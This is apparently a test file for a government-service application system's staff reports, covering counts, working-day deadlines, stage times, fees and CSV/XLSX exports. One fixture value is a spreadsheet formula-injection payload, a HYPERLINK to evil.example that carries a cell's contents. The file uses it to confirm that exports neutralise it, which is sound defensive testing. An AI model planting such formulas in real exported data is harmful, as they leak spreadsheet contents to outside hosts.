import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { prisma } from "@/lib/db/client";
import { computeDueDate } from "@/lib/calendar/due-date";
import { getReport } from "@/lib/reports/data/reports";
import type { CurrentUser } from "@/lib/kernel/access";
import { reportCsv } from "@/lib/reports/export-csv";
import { reportXlsx } from "@/lib/reports/export-xlsx";
import { parseReportParams } from "@/lib/reports/report-params";
import { reportTables } from "@/lib/reports/report-tables";
import { REPORT_SERVICE_CODES } from "@/lib/reports/service-options";
import { createUser } from "../support/factories/booking";
import { createSubmittedApplication } from "../support/factories/applications";

// A seeded May 2026 with known answers. Times are UTC; Astana is UTC+5. Deadlines come from the
// real holiday calendar: originals received Wed 6 May are due Fri 15 May (7 May and 11 May are
// days off), so a completion on Fri 15 May is on time and one on Mon 18 May is 1 working day late.

const at = (iso: string) => new Date(iso);
const MAY = { from: "2026-05-01", to: "2026-05-31", service: null };
const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

let staff: CurrentUser;
const ids: Record<string, string> = {};

async function spans(applicationId: string, serviceCode: string, rows: [string, string, string][]) {
  for (const [stage, startedAt, endedAt] of rows) {
    const seconds = (at(endedAt).getTime() - at(startedAt).getTime()) / 1000;
    await prisma.reportStageSpan.create({
      data: { applicationId, serviceCode, stage, startedAt: at(startedAt), endedAt: at(endedAt), seconds },
    });
  }
}

async function app(
  key: string,
  options: { service: string; status: string; submittedAt: string; finishedAt?: string; dueDate?: string | null; companyName?: string },
) {
  const created = await createSubmittedApplication(prisma, {
    serviceCode: options.service,
    status: options.status as never,
    documentCodes: [],
  });
  if (options.companyName) await prisma.company.update({ where: { id: created.company.id }, data: { name: options.companyName } });
  await prisma.application.update({
    where: { id: created.application.id },
    data: {
      submittedAt: at(options.submittedAt),
      statusChangedAt: at(options.finishedAt ?? options.submittedAt),
      dueDate: options.dueDate ? at(`${options.dueDate}T00:00:00Z`) : null,
    },
  });
  ids[key] = created.application.id;
  return created.application.id;
}

async function invoice(applicationId: string, number: string, fee: number, issuedAt: string, paidAt: string | null) {
  await prisma.invoice.create({
    data: {
      // Issue 15: an invoice is the service fee alone; only invoices paid before that reading
      // included the state duty (kept as paid). The paid ones here are such legacy invoices, so the
      // report's total column differs from its fee column.
      number,
      applicationId,
      serviceFeeTiyn: fee,
      stateDutyTiyn: 216_250,
      totalTiyn: paidAt ? fee + 216_250 : fee,
      filedOn: at("2026-05-01T00:00:00Z"),
      issuedAt: at(issuedAt),
      status: paidAt ? "PAID" : "AWAITING_PAYMENT",
      paidAt: paidAt ? at(paidAt) : null,
    },
  });
}

beforeAll(async () => {
  staff = await createUser(prisma, "STAFF");
  const due = await computeDueDate(prisma, {
    applicationId: (await createSubmittedApplication(prisma, { documentCodes: [] })).application.id,
    receivedOn: "2026-05-06",
  });
  expect(due?.toISOString().slice(0, 10)).toBe("2026-05-15");
  const dueIso = "2026-05-15";

  // Stage times as the audit trigger keeps them (its own behaviour is tested below, at real
  // time: the database stamps audit rows with its clock, so May 2026 spans are written directly).
  const a1 = await app("A1", {
    service: "WORK_VISA",
    status: "COMPLETED",
    submittedAt: "2026-05-04T05:00:00Z",
    finishedAt: "2026-05-15T06:00:00Z",
    dueDate: dueIso,
  });
  await spans(a1, "WORK_VISA", [
    ["WAITING_FOR_REVIEW", "2026-05-04T05:00:00Z", "2026-05-04T11:00:00Z"],
    ["IN_REVIEW", "2026-05-04T11:00:00Z", "2026-05-05T05:00:00Z"],
    ["WAITING_FOR_PAYMENT", "2026-05-05T05:00:00Z", "2026-05-05T11:00:00Z"],
    ["WAITING_FOR_APPOINTMENT", "2026-05-05T11:00:00Z", "2026-05-06T05:00:00Z"],
    ["IN_PROCESSING", "2026-05-06T05:00:00Z", "2026-05-15T06:00:00Z"],
  ]);
  await invoice(a1, "INV-T-1", 36_000_000, "2026-05-05T05:00:00Z", "2026-05-05T11:00:00Z");

  const a2 = await app("A2", {
    service: "WORK_VISA",
    status: "COMPLETED",
    submittedAt: "2026-05-04T05:00:00Z",
    finishedAt: "2026-05-18T06:00:00Z",
    dueDate: dueIso,
    companyName: INJECTION,
  });
  await spans(a2, "WORK_VISA", [
    ["WAITING_FOR_REVIEW", "2026-05-04T05:00:00Z", "2026-05-04T07:00:00Z"],
    ["IN_REVIEW", "2026-05-04T07:00:00Z", "2026-05-05T05:00:00Z"],
    ["WAITING_FOR_PAYMENT", "2026-05-05T05:00:00Z", "2026-05-05T11:00:00Z"],
    ["WAITING_FOR_APPOINTMENT", "2026-05-05T11:00:00Z", "2026-05-06T05:00:00Z"],
    ["IN_PROCESSING", "2026-05-06T05:00:00Z", "2026-05-18T06:00:00Z"],
  ]);
  await invoice(a2, "INV-T-2", 36_000_000, "2026-05-05T05:00:00Z", "2026-05-05T11:00:00Z");

  const a3 = await app("A3", {
    service: "TRP",
    status: "REJECTED",
    submittedAt: "2026-05-10T05:00:00Z",
    finishedAt: "2026-05-20T05:00:00Z",
  });
  await invoice(a3, "INV-T-3", 10_000_000, "2026-04-28T05:00:00Z", "2026-05-02T05:00:00Z");
  const a4 = await app("A4", {
    service: "WORK_VISA",
    status: "COMPLETED",
    submittedAt: "2026-04-20T05:00:00Z",
    finishedAt: "2026-05-12T05:00:00Z",
    dueDate: "2026-05-14",
  });
  await invoice(a4, "INV-T-4", 36_000_000, "2026-05-03T05:00:00Z", null);
  await app("A5", { service: "TRP", status: "SUBMITTED", submittedAt: "2026-05-25T05:00:00Z" });
  // 30 April 20:00 UTC is 1 May 01:00 in Astana: received in May.
  await app("A6", { service: "WORK_VISA", status: "WITHDRAWN", submittedAt: "2026-04-30T20:00:00Z", finishedAt: "2026-05-21T05:00:00Z" });
  await app("A7", {
    service: "WORK_VISA",
    status: "COMPLETED",
    submittedAt: "2026-05-28T05:00:00Z",
    finishedAt: "2026-06-02T05:00:00Z",
    dueDate: "2026-06-01",
  });
  // Received in April, lapsed in May (issue 17's deadline on a request for changes passed).
  await app("A8", { service: "TRP", status: "LAPSED", submittedAt: "2026-04-15T05:00:00Z", finishedAt: "2026-05-26T05:00:00Z" });

  const slots = await Promise.all(
    ["2026-05-06T04:00:00Z", "2026-05-06T04:30:00Z", "2026-05-07T04:00:00Z", "2026-06-03T04:00:00Z"].map((startsAt) =>
      prisma.bookingSlot.create({ data: { startsAt: at(startsAt), capacity: 3 } }),
    ),
  );
  await prisma.appointment.create({ data: { applicationId: a1, slotId: slots[0].id, startsAt: slots[0].startsAt, status: "ATTENDED" } });
  await prisma.appointment.create({
    data: { applicationId: a2, slotId: slots[1].id, startsAt: slots[1].startsAt, status: "NO_SHOW", seats: 2 },
  });
  await prisma.appointment.create({ data: { applicationId: a4, slotId: slots[2].id, startsAt: slots[2].startsAt, status: "CANCELLED" } });
});

describe("staff report figures for a seeded May 2026", () => {
  it("counts received, completed, rejected and withdrawn per service, in Astana time", async () => {
    const report = await getReport(staff, MAY);
    const byService = Object.fromEntries(report.volumes.map((row) => [row.serviceCode, row]));
    expect(byService.WORK_VISA).toMatchObject({ received: 4, completed: 3, rejected: 0, withdrawn: 1, lapsed: 0 });
    expect(byService.TRP).toMatchObject({ received: 2, completed: 0, rejected: 1, withdrawn: 0, lapsed: 1 });
    expect(report.totals).toMatchObject({ received: 6, completed: 3, rejected: 1, withdrawn: 1, lapsed: 1 });
    // Issue 17 added LAPSED to the lifecycle: the report counts it (by the day it lapsed).
    expect(report.lapsedSupported).toBe(true);
  });

  it("measures completion against working-day deadlines across the May holidays", async () => {
    const report = await getReport(staff, MAY);
    expect(report.timeliness).toEqual({ completed: 3, withDeadline: 3, onTime: 2, late: 1, share: 2 / 3 });
    expect(report.lateApplications).toHaveLength(1);
    expect(report.lateApplications[0]).toMatchObject({
      id: ids.A2,
      dueDate: "2026-05-15",
      completedOn: "2026-05-18",
      workingDaysLate: 1,
      companyName: INJECTION,
    });
  });

  it("lists only as many late applications as the page asks for, and still counts them all", async () => {
    const page = await getReport(staff, MAY, { lateLimit: 0 });
    expect(page.lateApplications).toEqual([]);
    expect(page.timeliness.late).toBe(1);
  });

  it("gives median and 90th-percentile time per stage from the audit trail", async () => {
    const stages = Object.fromEntries((await getReport(staff, MAY)).stages.map((row) => [row.stage, row]));
    expect(stages.WAITING_FOR_REVIEW).toEqual({ stage: "WAITING_FOR_REVIEW", count: 2, medianSeconds: 14_400, p90Seconds: 20_160 });
    expect(stages.IN_REVIEW).toMatchObject({ count: 2, medianSeconds: 72_000 });
    expect(stages.WAITING_FOR_PAYMENT).toMatchObject({ count: 2, medianSeconds: 21_600, p90Seconds: 21_600 });
    expect(stages.WAITING_FOR_APPOINTMENT).toMatchObject({ count: 2, medianSeconds: 64_800 });
    expect(stages.IN_PROCESSING).toMatchObject({ count: 2, medianSeconds: 910_800, p90Seconds: 1_014_480 });
    expect(stages.CHANGES_REQUESTED).toMatchObject({ count: 0, medianSeconds: null });
  });

  it("counts appointment slots, bookings and no-shows, and fees invoiced and confirmed in tiyn", async () => {
    const report = await getReport(staff, MAY);
    expect(report.appointments).toEqual({ slots: 3, placesOffered: 9, booked: 2, attended: 1, noShow: 1, cancelled: 1, seatsBooked: 3 });
    expect(report.fees).toEqual({
      invoicedCount: 3,
      invoicedServiceFeeTiyn: 108_000_000,
      invoicedTotalTiyn: 108_432_500,
      confirmedCount: 3,
      confirmedServiceFeeTiyn: 82_000_000,
      confirmedTotalTiyn: 82_648_750,
    });
  });

  it("narrows every figure to one service (slots stay centre-wide)", async () => {
    const report = await getReport(staff, { ...MAY, service: "TRP" });
    expect(report.totals).toMatchObject({ received: 2, completed: 0, rejected: 1 });
    expect(report.appointments).toMatchObject({ slots: 3, booked: 0 });
    expect(report.fees).toMatchObject({ invoicedCount: 0, confirmedCount: 1, confirmedServiceFeeTiyn: 10_000_000 });
    expect(report.stages.every((row) => row.count === 0)).toBe(true);
  });

  it("puts received and completed in the right weeks (Monday starts)", async () => {
    const weeks = Object.fromEntries((await getReport(staff, MAY)).weeks.map((w) => [w.weekStart, w]));
    expect(Object.keys(weeks)[0]).toBe("2026-04-27");
    expect(weeks["2026-04-27"]).toMatchObject({ received: 1, completed: 0 });
    // A3 was received on Sunday 10 May: still the week of Monday 4 May.
    expect(weeks["2026-05-04"]).toMatchObject({ received: 3, completed: 0 });
    expect(weeks["2026-05-11"]).toMatchObject({ received: 0, completed: 2 });
    expect(weeks["2026-05-18"]).toMatchObject({ received: 0, completed: 1 });
    expect(weeks["2026-05-25"]).toMatchObject({ received: 2, completed: 0 });
  });

  it("is for staff and admins only", async () => {
    const applicant = await createUser(prisma, "APPLICANT");
    await expect(getReport(applicant, MAY)).rejects.toThrow(/may not/);
  });
});

describe("stage spans kept from the audit trail", () => {
  it("opens a span per stage, keeps it open across a booking, switches on payment and closes on completion", async () => {
    const { application } = await createSubmittedApplication(prisma, { serviceCode: "TRP", status: "COMPLETED", documentCodes: [] });
    const event = (action: string, toStatus: string | null) =>
      prisma.auditEvent.create({
        data: {
          action,
          entityType: toStatus ? "Application" : "Invoice",
          entityId: application.id,
          applicationId: application.id,
          toStatus,
        },
      });
    await event("SUBMIT", "SUBMITTED");
    await event("START_REVIEW", "IN_REVIEW");
    await event("REQUEST_CHANGES", "CHANGES_REQUESTED");
    await event("SUBMIT", "SUBMITTED");
    await event("START_REVIEW", "IN_REVIEW");
    await event("ADD_NOTE", null);
    await event("APPROVE_DOCUMENTS", "DOCUMENTS_APPROVED");
    await event("CONFIRM_PAYMENT", null);
    await event("BOOK_APPOINTMENT", "APPOINTMENT_BOOKED");
    await event("CANCEL_APPOINTMENT", "DOCUMENTS_APPROVED");
    await event("BOOK_APPOINTMENT", "APPOINTMENT_BOOKED");
    await event("RECEIVE_ORIGINALS", "IN_PROCESSING");
    await event("COMPLETE", "COMPLETED");
    const rows = await prisma.reportStageSpan.findMany({ where: { applicationId: application.id }, orderBy: { id: "asc" } });
    expect(rows.map((row) => row.stage)).toEqual([
      "WAITING_FOR_REVIEW",
      "IN_REVIEW",
      "CHANGES_REQUESTED",
      "WAITING_FOR_REVIEW",
      "IN_REVIEW",
      "WAITING_FOR_PAYMENT",
      "WAITING_FOR_APPOINTMENT",
      "IN_PROCESSING",
    ]);
    expect(rows.every((row) => row.endedAt !== null && row.serviceCode === "TRP")).toBe(true);
    for (const row of rows) expect(row.seconds).toBe(Math.max(0, Math.floor((row.endedAt!.getTime() - row.startedAt.getTime()) / 1000)));
  });
});

describe("report parameters", () => {
  it("refuses bad dates, reversed or over-long periods and unknown services with a reason", () => {
    const parse = (raw: Record<string, string>) => parseReportParams(raw, "2026-06-10", REPORT_SERVICE_CODES);
    expect(parse({ from: "2026-13-01" })).toEqual({ ok: false, error: "INVALID_DATE" });
    expect(parse({ from: "yesterday" })).toEqual({ ok: false, error: "INVALID_DATE" });
    expect(parse({ from: "2026-05-31", to: "2026-05-01" })).toEqual({ ok: false, error: "FROM_AFTER_TO" });
    expect(parse({ from: "2020-01-01", to: "2026-01-01" })).toEqual({ ok: false, error: "RANGE_TOO_LONG" });
    expect(parse({ service: "NOPE" })).toEqual({ ok: false, error: "UNKNOWN_SERVICE" });
    expect(parse({})).toEqual({ ok: true, params: { from: "2025-06-11", to: "2026-06-10", service: null } });
  });
});

describe("exports", () => {
  const t = (key: string) => key;
  it("neutralise a company name that is a formula, in CSV and XLSX, and keep numbers as numbers", async () => {
    const report = await getReport(staff, MAY);
    const tables = reportTables(report, t, (code) => code);
    const csv = reportCsv(tables);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await reportXlsx(tables, "Report")) as unknown as ArrayBuffer);
    const late = workbook.getWorksheet("sections.late")!;
    const company = late.getRow(2).getCell(3);
    expect(company.type).toBe(ExcelJS.ValueType.String);
    expect(company.value).toBe(`'${INJECTION}`);
    expect(late.getRow(2).getCell(6).value).toBe(1);
    const volumes = workbook.getWorksheet("sections.volumes")!;
    expect(volumes.getRow(volumes.rowCount).getCell(2).value).toBe(6);
  });
});
